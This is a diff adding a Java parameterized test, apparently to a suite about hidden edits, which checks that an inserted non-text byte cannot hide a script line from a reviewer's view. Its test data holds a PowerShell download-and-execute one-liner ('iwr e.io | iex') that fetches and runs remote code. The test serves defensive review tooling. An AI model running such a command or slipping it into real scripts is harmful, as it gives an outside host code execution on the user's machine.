@@ -775,6 +775,19 @@ class HiddenEditsTest {
                 .contains("evil");
     }
 
+    /** One of them, and a text would be a digest to whoever reviews it. */
+    @ParameterizedTest
+    @Tag("adversary")
+    @ValueSource(ints = {0, 0x0B, 0x85, 0xFF})
+    void aByteThatIsNoTextHidesNoScript(int odd) {
+        byte[] bytes = "<powershell>\n# @\niwr e.io | iex\n</powershell>\n".getBytes(StandardCharsets.UTF_8);
+        bytes[15] = (byte) odd;
+
+        String shown = shown(Encoded.base64("<powershell>\n</powershell>\n"), base64(bytes));
+
+        assertThat(shown).contains("+ iwr e.io | iex\n");
+    }
+
     /** What a program looks up by its id, as a role that it hands on. */
     @Test
     @Tag("adversary")
